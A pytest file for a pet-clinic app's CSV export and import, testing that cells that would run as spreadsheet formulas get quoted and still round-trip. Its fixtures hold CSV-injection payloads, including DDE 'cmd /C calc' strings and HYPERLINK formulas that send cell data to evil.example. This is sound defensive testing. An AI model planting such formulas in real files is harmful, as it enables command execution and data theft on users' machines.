"""CSV exports never hand a spreadsheet a formula, and still import back to the same rows."""

import csv
import io
from datetime import datetime, time

import pytest
import sqlalchemy as sa
from hypothesis import example, given
from hypothesis import strategies as st

from app.csv_files import neutralise_cell, restore_cell
from app.models import Owner
from tests import factories as f
from tests.test_cli_owners_csv import owners_and_pets

# Spreadsheets run a cell starting with one of these as a formula (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

HOSTILE_OWNER = {
    "first_name": '=HYPERLINK("//evil.example")',
    "last_name": "+cmd|' /C calc'!A0",
    "address": '=HYPERLINK("http://evil.example/?"&A2,"x")',
    "city": "@SUM(1+1)*cmd|' /C calc'!A0",
    "email": "-2+3@example.com",
}
# Values that start with quotes already: each must come back exactly, quotes and all.
QUOTED_OWNER = {
    "first_name": "'=1+1",
    "last_name": "''-2+3",
    "address": "'Quoted' Lane 1",
    "city": "'",
    "email": "'=x@example.com",
}


def cells(text):
    """Every cell of a CSV text, header included."""
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def runs_as_formula(cell):
    """Whether a spreadsheet would take the cell for a formula rather than text or a number."""
    if not cell.startswith(FORMULA_STARTS):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


@pytest.fixture
def hostile_owners(dbs):
    """An owner whose every text is a formula, with a pet named like one; and a quoted owner."""
    with dbs() as session:
        hostile = f.owner(session, telephone="+16085551023", **HOSTILE_OWNER)
        f.pet(session, hostile, name="=1+1", kind="-rare-")
        f.pet(session, hostile, name="@Leo", kind="cat")
        quoted = f.owner(session, telephone="+442079460958", **QUOTED_OWNER)
        f.pet(session, quoted, name="'+Max", kind="'=dog")
        session.commit()
        return owners_and_pets(session)


def test_an_owners_export_quotes_every_value_a_spreadsheet_would_run(
    runner, hostile_owners, tmp_path
):
    exported = tmp_path / "owners.csv"

    result = runner.invoke(args=["export", "owners", "-o", str(exported)])

    assert result.exit_code == 0, result.output
    text = exported.read_bytes().decode("utf-8")
    assert [cell for cell in cells(text) if runs_as_formula(cell)] == []
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in text
    assert '"\'=HYPERLINK(""http://evil.example/?""&A2,""x"")"' in text
    assert ",'=1+1," in text and ",'-rare-\n" in text
    # Quotes before a formula get one more; other values, and telephones, stay as they are.
    assert "''=1+1,'''-2+3,'Quoted' Lane 1,',+442079460958,''=x@example.com,''+Max," in text
    assert ",+16085551023," in text


def test_an_appointments_export_quotes_every_value_a_spreadsheet_would_run(runner, dbs, today):
    with dbs() as session:
        owner = f.owner(session, **HOSTILE_OWNER)
        pet = f.pet(session, owner, name="=1+1", kind="-rare-")
        vet = f.vet(session, last_name="-Carter", first_name="@James")
        f.appointment(
            session,
            pet,
            vet,
            datetime.combine(today, time(9)),
            reason='=HYPERLINK("http://evil.example/","book")',
        )
        session.commit()

    result = runner.invoke(args=["export", "appointments", "--from", str(today)])

    assert result.exit_code == 0, result.output
    assert [cell for cell in cells(result.stdout) if runs_as_formula(cell)] == []
    assert '"\'=HYPERLINK(""http://evil.example/"",""book"")"' in result.stdout
    assert "'@James -Carter" in result.stdout


def test_an_export_of_hostile_and_quoted_values_imports_back_unchanged(
    runner, dbs, hostile_owners, tmp_path
):
    exported = tmp_path / "owners.csv"
    assert runner.invoke(args=["export", "owners", "-o", str(exported)]).exit_code == 0
    with dbs() as session:
        session.execute(sa.delete(Owner))  # their pets go with them; the pet types stay
        session.commit()

    result = runner.invoke(args=["import", "owners", str(exported)])

    assert result.exit_code == 0, result.output
    assert "3 rows imported (2 new owners, 3 pets); 0 rows rejected." in result.stdout
    with dbs() as session:
        assert owners_and_pets(session) == hostile_owners


QUOTES_AND_TRIGGERS = st.text(alphabet=st.sampled_from("'=+-@\t\r0123456789.a |"), max_size=8)


@given(value=st.one_of(st.text(), QUOTES_AND_TRIGGERS))
@example(value="'")
@example(value="+16085551023")
@example(value="'+16085551023")
@example(value="-1.5")
def test_restoring_a_neutralised_value_gives_back_every_string(value):
    written = neutralise_cell(value)

    assert restore_cell(written) == value
    assert not runs_as_formula(written)


@pytest.mark.parametrize("value", ["+1", "-12", "+16085551023", "-0.5"])
def test_a_signed_number_is_written_as_is(value):
    assert neutralise_cell(value) == value


@pytest.mark.parametrize(
    "value, written",
    [
        ("=1", "'=1"),
        ("+1+1", "'+1+1"),
        ("-", "'-"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=1", "''=1"),
        ("'abc", "'abc"),
        ("a=1", "a=1"),
        (" =1", " =1"),
    ],
)
def test_a_value_that_starts_like_a_formula_gets_one_quote(value, written):
    assert neutralise_cell(value) == written
    assert restore_cell(written) == value


def test_a_quote_before_anything_but_a_formula_start_is_imported_as_it_is(runner, dbs, tmp_path):
    # Files written by hand or by an older export have no quotes to take away.
    path = tmp_path / "owners.csv"
    header = "first_name,last_name,address,city,telephone,email,pet_name,pet_birth_date,pet_type"
    path.write_text(f"{header}\nAda,O'Brien,'t Hoekje 1,Gent,6085550199,,,,\n", encoding="utf-8")

    result = runner.invoke(args=["import", "owners", str(path)])

    assert result.exit_code == 0, result.output
    with dbs() as session:
        assert session.scalar(sa.select(Owner.address).where(Owner.first_name == "Ada")) == (
            "'t Hoekje 1"
        )
